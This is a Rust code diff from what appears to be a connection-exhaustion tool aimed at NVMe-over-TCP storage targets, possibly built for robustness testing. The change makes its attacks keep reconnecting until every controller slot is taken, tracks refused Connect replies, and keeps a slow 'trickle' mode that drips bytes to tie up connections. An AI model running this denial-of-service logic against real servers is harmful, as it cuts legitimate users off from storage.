@@ -90,16 +90,26 @@ pub(crate) struct Attack {
     pub(crate) count: usize,
 }
 
+impl Attack {
+    fn wants_controllers(&self) -> bool {
+        matches!(self.act, Act::Discovery | Act::Impostor)
+    }
+}
+
 /// What holds an attack's connections and makes new ones for those that it lost, until it is dropped.
 pub(crate) struct Going {
     stop: Arc<AtomicBool>,
     thread: Option<JoinHandle<()>>,
 }
 
-/// A connection of an attack, and how much it has said.
+/// A connection of an attack.
 struct Held {
     stream: TcpStream,
+    /// How many bytes it has said.
     said: usize,
+    /// What the target has answered.
+    answers: Vec<u8>,
+    is_closed: bool,
 }
 
 impl Going {
@@ -108,36 +118,48 @@ impl Going {
         let begun = Instant::now();
         let is_early = |_: &usize| begun.elapsed() < START_PATIENCE;
         let numbers = (0..attack.count).take_while(is_early);
-        let held: Vec<Vec<Held>> = numbers.map(|number| attempt(&attack, number, address)).collect();
+        let mut held: Vec<Vec<Held>> = numbers.map(|number| attempt(&attack, number, address)).collect();
         let stop = Arc::new(AtomicBool::new(false));
         let stopped = Arc::clone(&stop);
         // The target is busy with what has come so far.
         std::thread::sleep(SETTLE);
+        // A slow target may have ended some before it read their Connect. All controllers are taken when one is refused.
+        let one_is_refused = |held: &mut [Vec<Held>]| held.iter_mut().flatten().any(Held::is_refused);
+        while attack.wants_controllers() && !one_is_refused(&mut held) && begun.elapsed() < START_PATIENCE {
+            attempt_again(&attack, address, &mut held, &stop);
+            std::thread::sleep(SETTLE);
+        }
         let thread = std::thread::spawn(move || go_on(&attack, address, held, &stopped));
         Self { stop, thread: Some(thread) }
     }
 }
 
-/// Makes connections anew that are lost. Those that are there stay: each that left would be a place for somebody else.
+/// Makes connections anew that are lost, over and over. Those that are there stay: each that left would be a place for
+/// somebody else.
 fn go_on(attack: &Attack, address: SocketAddr, mut held: Vec<Vec<Held>>, stop: &AtomicBool) {
-    let wants_controller = matches!(attack.act, Act::Discovery | Act::Impostor);
     let mut dripped = Instant::now();
-    loop {
-        for (number, one) in held.iter_mut().enumerate() {
-            if stop.load(Ordering::Relaxed) {
-                return;
-            }
-            if one.first().is_none_or(|first| first.is_lost(wants_controller)) {
-                *one = attempt(attack, number, address);
-                // The processor is not what it is after.
-                std::thread::sleep(PAUSE);
-            }
-        }
+    while !stop.load(Ordering::Relaxed) {
+        attempt_again(attack, address, &mut held, stop);
         if attack.act == Act::Trickle && dripped.elapsed() > DRIP {
             held.iter_mut().flatten().for_each(|one| one.drip(attack.over));
             dripped = Instant::now();
         }
         std::thread::sleep(PAUSE);
+    }
+}
+
+/// Makes connections anew that are lost, each once.
+fn attempt_again(attack: &Attack, address: SocketAddr, held: &mut [Vec<Held>], stop: &AtomicBool) {
+    let is_lost = |first: &mut Held| first.is_closed() || attack.wants_controllers() && first.is_refused();
+    for (number, one) in held.iter_mut().enumerate() {
+        if stop.load(Ordering::Relaxed) {
+            return;
+        }
+        if one.first_mut().is_none_or(is_lost) {
+            *one = attempt(attack, number, address);
+            // The processor is not what it is after.
+            std::thread::sleep(PAUSE);
+        }
     }
 }
 
@@ -151,17 +173,30 @@ impl Drop for Going {
 }
 
 impl Held {
-    /// Whether the target has closed it, or has refused what a Connect asked for.
-    fn is_lost(&self, wants_controller: bool) -> bool {
-        let mut answers = [0; IcResp::SIZE + CapsuleResp::SIZE];
-        match self.stream.peek(&mut answers) {
-            Ok(bytes) if bytes == answers.len() && wants_controller => {
-                let answer = CapsuleResp::read_from_bytes(&answers[IcResp::SIZE..]).expect("as long as one");
-                !answer.cqe.status().is_success()
+    /// Takes in what the target has said. A connection that was closed may have been answered before.
+    fn listen(&mut self) {
+        let mut bytes = [0; 256];
+        while !self.is_closed {
+            match self.stream.read(&mut bytes) {
+                Ok(0) => self.is_closed = true,
+                Ok(length) => self.answers.extend_from_slice(&bytes[..length]),
+                Err(error) if error.kind() == io::ErrorKind::WouldBlock => break,
+                Err(_) => self.is_closed = true,
             }
-            Ok(bytes) => bytes == 0,
-            Err(error) => error.kind() != io::ErrorKind::WouldBlock,
         }
+    }
+
+    fn is_closed(&mut self) -> bool {
+        self.listen();
+        self.is_closed
+    }
+
+    /// Whether the target has refused what a Connect asked for.
+    fn is_refused(&mut self) -> bool {
+        self.listen();
+        let answer = self.answers.get(IcResp::SIZE..IcResp::SIZE + CapsuleResp::SIZE);
+        let answer = answer.map(|bytes| CapsuleResp::read_from_bytes(bytes).expect("as long as one"));
+        answer.is_some_and(|answer| !answer.cqe.status().is_success())
     }
 
     fn drip(&mut self, over: Over) {
@@ -188,7 +223,7 @@ fn attempt(attack: &Attack, number: usize, address: SocketAddr) -> Vec<Held> {
     };
     let hold = |stream: TcpStream| {
         stream.set_nonblocking(true).ok()?;
-        Some(Held { stream, said: said(attack).len() })
+        Some(Held { stream, said: said(attack).len(), answers: Vec::new(), is_closed: false })
     };
     streams.into_iter().filter_map(hold).collect()
 }
